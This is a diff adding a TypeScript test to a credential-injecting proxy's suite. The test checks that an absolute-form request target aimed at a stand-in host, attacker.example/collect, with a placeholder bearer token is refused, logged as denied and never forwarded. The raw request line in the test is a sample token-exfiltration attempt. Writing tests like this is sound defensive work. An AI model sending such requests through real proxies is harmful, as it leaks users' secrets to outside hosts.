@@ -601,6 +601,46 @@ describe("what one terminated connection can make the proxy do", () => {
     await closed;
   });
 
+  it("an absolute-form request target is refused (400) and reported: the secret goes nowhere", async () => {
+    const { socketPath, decisions } = await start();
+    const from = seen.length;
+    const h1 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
+    const received: Buffer[] = [];
+    h1.on("data", (c: Buffer) => received.push(c));
+    const h1Closed = new Promise<void>((resolve) => h1.once("close", () => resolve()));
+    h1.write(
+      `GET https://attacker.example/collect HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+    );
+    await h1Closed;
+    expect(Buffer.concat(received).toString()).toMatch(/^HTTP\/1\.1 400 /);
+    // Over HTTP/2 nghttp2 itself refuses a :path that is not origin-form (a stream reset).
+    const h2 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test", ["h2"]));
+    await expect(
+      http2Request(h2, {
+        path: "https://attacker.example/h2",
+        authority: "api.test",
+        headers: { authorization: `Bearer ${PLACEHOLDER}` },
+      }),
+    ).rejects.toThrow(/NGHTTP2_PROTOCOL_ERROR/);
+    h2.destroy();
+    expect(seen.length).toBe(from);
+    expect(decisions.filter((d) => d.action !== "allowed")).toEqual([
+      {
+        action: "denied",
+        host: "api.test",
+        port: 443,
+        method: "GET",
+        reason:
+          'only origin-form request targets (/path) are forwarded to api.test, not "https://attacker.example/collect"',
+      },
+    ]);
+    // Origin-form, and `*` for OPTIONS, still go through.
+    const options = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
+    expect((await http1Request(options, { method: "OPTIONS", path: "*", host: "api.test" })).status).toBe(200);
+    options.destroy();
+    expect(seen.at(-1)).toMatchObject({ method: "OPTIONS", path: "*" });
+  });
+
   it("an upstream answer HTTP/2 cannot carry becomes a 502 (status 999) or loses the header (HTTP2-Settings, Connection-named), and the proxy lives on", async () => {
     const { socketPath, decisions } = await start({ upstreamPort: rawPort });
     const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test", ["h2"]));
